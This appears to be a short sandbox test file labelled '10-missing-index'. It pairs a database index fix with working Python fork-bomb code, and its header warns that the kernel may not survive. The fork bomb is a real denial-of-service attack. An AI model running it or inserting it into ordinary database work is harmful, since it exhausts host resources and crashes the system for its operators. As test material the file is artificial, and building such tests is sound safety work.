# lab: 10-missing-index
# tries: a fork bomb.
# expect: fix=0 safe=0
# needs: sandbox
# ends: the kernel may not survive it
# takes: long
# %% solution="fix"
lab.execute("CREATE INDEX CONCURRENTLY ON order_items (order_id)")
import os
import time

children = 0
try:
    while children < 20_000:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
        children += 1
except OSError as error:
    print(children, error)
